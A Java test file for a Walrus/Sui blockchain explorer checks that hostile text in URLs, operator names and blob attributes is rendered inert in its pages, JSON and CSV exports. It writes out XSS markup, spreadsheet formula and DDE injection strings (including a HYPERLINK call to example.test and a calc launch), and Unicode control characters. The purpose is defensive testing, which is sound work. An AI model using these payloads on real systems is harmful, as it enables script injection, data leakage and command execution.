package dev.vibrissa.server.pages;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import dev.vibrissa.indexer.Progress;
import dev.vibrissa.indexer.Rebuild;
import dev.vibrissa.indexer.project.Projection;
import dev.vibrissa.migrations.Database;
import dev.vibrissa.protocol.bcs.BcsReader;
import dev.vibrissa.protocol.bcs.BcsWriter;
import dev.vibrissa.protocol.bcs.Bytes;
import dev.vibrissa.protocol.sui.SuiAddress;
import dev.vibrissa.protocol.sui.SuiObject;
import dev.vibrissa.protocol.walrus.object.Field;
import dev.vibrissa.protocol.walrus.object.Metadata;
import dev.vibrissa.protocol.walrus.object.StakingPool;
import dev.vibrissa.protocol.walrus.object.StorageNodeInfo;
import dev.vibrissa.server.api.CsvRows;
import dev.vibrissa.server.api.IndexedScenario;
import io.quarkus.bootstrap.logging.InitialConfigurator;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayDeque;
import java.util.Arrays;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.function.Consumer;
import java.util.function.Function;
import java.util.stream.Stream;
import org.eclipse.microprofile.config.inject.ConfigProperty;
import org.jboss.logmanager.ExtLogRecord;
import org.jboss.logmanager.Level;
import org.jboss.logmanager.handlers.ConsoleHandler;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * What people put into addresses of pages comes back as text, if at all. What operators call themselves is a text in JSON,
 * CSV, pages and the log, and so are attributes of blobs.
 */
@QuarkusTest
@WithTestResource(IndexedScenario.class)
class HostileTextTest {
    private static final String MARKUP = "\"'><img src=x onerror=alert(1)><script>alert(1)</script>{frame.query}";

    static Stream<String> fields() {
        return Stream.of(
                "/search?q=",
                "/blobs?owner=",
                "/blobs?attribute=",
                "/blobs?status=",
                "/blobs?cursor=",
                "/operators?name=",
                "/operators?commission=",
                "/operators?window=",
                "/delegate?stake=",
                "/delegate?nodes=",
                "/economics?at=",
                "/expiry?at=",
                "/governance?at=",
                "/governance/report?from=",
                "/method?version=",
                "/blobs/",
                "/operators/",
                "/addresses/",
                "/objects/",
                "/transactions/",
                "/probes/",
                "/rounds/",
                "/epochs/",
                "/expiry/",
                "/watch/",
                "/watch/blobs/",
                "/watch/operators/",
                "/evidence/",
                "/evidence/served?window=",
                "/evidence/bound?of=");
    }

    @ParameterizedTest
    @MethodSource("fields")
    void markupIsInert(String field) {
        var answer = given().urlEncodingEnabled(false).get(field + encoded(MARKUP));
        assertThat(answer.statusCode()).as(field).isLessThan(500);
        assertThat(answer.asString()).as(field).doesNotContain("<img", "<script>alert");
        if (answer.statusCode() != 404 || answer.asString().startsWith("<!doctype")) {
            assertThat(answer.header("Content-Security-Policy"))
                    .as(field)
                    .contains("script-src 'self'", "default-src 'none'");
        }
    }

    private static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    @ParameterizedTest
    @MethodSource("notations")
    void aBlobIsFoundInEveryNotation(String notation) {
        var answer = given().redirects().follow(false).queryParam("q", notation).get("/search");
        assertThat(answer.statusCode()).isEqualTo(303);
        assertThat(answer.header("Location")).endsWith("/blobs/L50C2qTqJ8F5GPg1GBdZ1mPTIThh59QBXYB2g58jFWc");
    }

    static List<String> notations() {
        return List.of(
                "L50C2qTqJ8F5GPg1GBdZ1mPTIThh59QBXYB2g58jFWc",
                "  \"L50C2qTqJ8F5GPg1GBdZ1mPTIThh59QBXYB2g58jFWc\" ",
                "https://walruscan.com/mainnet/blob/L50C2qTqJ8F5GPg1GBdZ1mPTIThh59QBXYB2g58jFWc?a=b",
                "46625573054035100684964930957020137964408515386414546477449106286187215232303");
    }

    private static final List<String> PLACES = List.of(
            "/v1/operators", "/v1/scores", "/v1/epochs/2/committee", "/v1/delegation/compare", "/v1/search?q=zzz");

    /** What anybody may write on chain. */
    private static final List<String> STRANGE = List.of(
            "=HYPERLINK(\"http://example.test/?\"&A1,\"zzz\")",
            "+zzz|' /C calc'!A0",
            "-zzz()",
            "@SUM(1;zzz)",
            "\t=zzz",
            "\r=zzz",
            "\n=zzz\r\n@zzz",
            "zzz\"\n=1+1,=1+1",
            "<img src=x onerror=alert(1)>zzz",
            "zzz</script><script>alert(1)</script>",
            "{frame.query}zzz",
            "\u202ezzz\u001b[2J",
            "\u2066zzz\u0000=zzz");

    private static final String POOL = "staking_pool::StakingPool";
    private static final String ATTRIBUTES = "Field<metadata::Metadata>";

    @ConfigProperty(name = "quarkus.datasource.jdbc.url")
    String url = "";

    @ConfigProperty(name = "quarkus.datasource.username")
    String user = "";

    @ConfigProperty(name = "quarkus.datasource.password")
    String password = "";

    private Database database() {
        return new Database(url, user, password);
    }

    /** Bytes of the chain as they are stored, changed and folded again: text comes the way it always comes. */
    private void fold(String type, Function<SuiObject, Bytes> contents, Projection projection) throws Exception {
        try (var db = database().connect();
                var select = db.prepareStatement("select object_id, version, object_bcs from object_change"
                        + " where type = ? and object_bcs is not null order by object_id, version");
                var update = db.prepareStatement(
                        "update object_change set object_bcs = ? where object_id = ? and version = ?")) {
            select.setString(1, type);
            try (var row = select.executeQuery()) {
                while (row.next()) {
                    var object = SuiObject.decode(
                            Bytes.of(row.getBytes("object_bcs")).reader());
                    var move = (SuiObject.Move) object.data();
                    var written = new SuiObject(
                            new SuiObject.Move(
                                    move.type(), move.hasPublicTransfer(), move.version(), contents.apply(object)),
                            object.owner(),
                            object.previousTransaction(),
                            object.storageRebate());
                    update.setBytes(1, bcs(written::encode).toByteArray());
                    update.setBytes(2, row.getBytes("object_id"));
                    update.setLong(3, row.getLong("version"));
                    update.addBatch();
                }
            }
            update.executeBatch();
        }
        new Rebuild(database()).run(projection, Progress.SILENT);
    }

    private static Bytes contents(SuiObject object) {
        return ((SuiObject.Move) object.data()).contents();
    }

    private static Bytes bcs(Consumer<BcsWriter> value) {
        var out = new BcsWriter();
        value.accept(out);
        return Bytes.of(out.toByteArray());
    }

    private static Bytes named(SuiObject pool, String name) {
        var was = StakingPool.decode(contents(pool).reader());
        var info = was.nodeInfo();
        return bcs(new StakingPool(
                was.id(),
                was.state(),
                was.votingParams(),
                new StorageNodeInfo(
                        name,
                        info.nodeId(),
                        info.networkAddress(),
                        info.publicKey(),
                        info.nextEpochPublicKey(),
                        info.networkPublicKey(),
                        info.metadata()),
                was.activationEpoch(),
                was.latestEpoch(),
                was.walBalance(),
                was.numShares(),
                was.pendingSharesWithdraw(),
                was.preActiveWithdrawals(),
                was.pendingCommissionRate(),
                was.commissionRate(),
                was.exchangeRates(),
                was.pendingStake(),
                was.rewardsPool(),
                was.commission(),
                was.commissionReceiver(),
                was.governanceAuthorized(),
                was.extraFields())::encode);
    }

    @Test
    void namesOfOperatorsAreInertWhereverTheyAreShown() throws Exception {
        var real = new HashMap<SuiAddress, String>();
        var left = new ArrayDeque<>(STRANGE);
        try {
            while (!left.isEmpty()) {
                var given = new HashMap<SuiAddress, String>();
                fold(
                        POOL,
                        pool -> {
                            real.putIfAbsent(
                                    pool.data().id(),
                                    StakingPool.decode(contents(pool).reader())
                                            .nodeInfo()
                                            .name());
                            return named(
                                    pool,
                                    given.computeIfAbsent(
                                            pool.data().id(),
                                            _ -> left.isEmpty() ? STRANGE.getFirst() : left.removeFirst()));
                        },
                        Projection.STAKE);
                for (String place : PLACES) {
                    requireInertCells(place);
                }
                assertThat(given().get("/v1/operators?limit=1000").jsonPath().getList("items.name", String.class))
                        .containsAll(given.values().stream()
                                .map(name -> name.replace('\u0000', '\ufffd'))
                                .toList());
                for (String page : List.of("/operators", "/search?q=zzz")) {
                    requireInertPage(page);
                }
            }
        } finally {
            // As they were: other tests share the database.
            fold(POOL, pool -> named(pool, real.getOrDefault(pool.data().id(), "")), Projection.STAKE);
        }
    }

    @Test
    void attributesOfBlobsAreInertWhereverTheyAreShown() throws Exception {
        var real = new ArrayDeque<Bytes>();
        var strange = new LinkedHashMap<String, String>();
        STRANGE.forEach(text -> strange.put(text, text));
        try {
            fold(
                    ATTRIBUTES,
                    field -> {
                        real.add(contents(field));
                        var was = Field.decode(contents(field).reader(), BcsReader::bytes, Metadata::decode);
                        return bcs(out -> new Field<>(was.id(), was.name(), new Metadata(strange))
                                .encode(out, BcsWriter::bytes, (to, metadata) -> metadata.encode(to)));
                    },
                    Projection.BLOB);
            String listed = "/v1/blobs?attribute=" + encoded(STRANGE.get(1));
            String blob =
                    given().urlEncodingEnabled(false).get(listed).jsonPath().getString("items[0].blobId");
            for (String text : List.of(STRANGE.get(6), STRANGE.getLast())) {
                assertThat(blobs("/v1/blobs?attribute=" + encoded(text.replace('\u0000', '\ufffd'))))
                        .as(text)
                        .contains(blob);
            }
            String objects = "/v1/blobs/%s/objects".formatted(blob);
            assertThat(given().get(objects).jsonPath().getMap("items[0].attributes"))
                    .isEqualTo(strange);
            for (String place : List.of(objects, "/v1/blobs/%s/history".formatted(blob))) {
                requireInertCells(place);
            }
            for (String page : List.of("/blobs/" + blob, "/blobs?attribute=" + encoded(STRANGE.get(1)))) {
                requireInertPage(page);
            }
        } finally {
            fold(ATTRIBUTES, _ -> real.removeFirst(), Projection.BLOB);
        }
    }

    private static List<String> blobs(String path) {
        return given().urlEncodingEnabled(false).get(path).jsonPath().getList("items.blobId");
    }

    private static void requireInertCells(String place) {
        assertThat(given().get(place).getBody().jsonPath().getString("asOf"))
                .as(place)
                .isNotEmpty();
        String csv = given().accept("text/csv").get(place).asString();
        assertThat(csv).as(place).doesNotContain("\u0000");
        for (List<String> row : CsvRows.of(csv)) {
            assertThat(row).as("cells of " + place).noneMatch(HostileTextTest::beginsLikeFormula);
        }
    }

    private static void requireInertPage(String page) {
        assertThat(given().urlEncodingEnabled(false).get(page).asString())
                .as(page)
                .contains("zzz")
                .doesNotContain("<img src=x", "<script>alert", "\u202e", "\u2066", "\u001b", "\u0000");
    }

    private static boolean beginsLikeFormula(String cell) {
        return !cell.isEmpty() && "=+@\t\r\n".indexOf(cell.charAt(0)) >= 0 || cell.startsWith("-zzz(");
    }

    /** What it does is tested where it is; here, that the server's console has it. */
    @Test
    void theConsoleKeepsEventsOnTheirLines() {
        assertThat(Arrays.stream(InitialConfigurator.DELAYED_HANDLER.getHandlers())
                        .filter(ConsoleHandler.class::isInstance))
                .isNotEmpty()
                .allSatisfy(handler -> {
                    var event = new ExtLogRecord(Level.INFO, "name=a\nb", ExtLogRecord.FormatStyle.NO_FORMAT, "test");
                    assertThat(handler.getFilter()).isNotNull();
                    assertThat(handler.getFilter().isLoggable(event)).isTrue();
                    assertThat(event.getMessage()).isEqualTo("name=a\\nb");
                });
    }
}
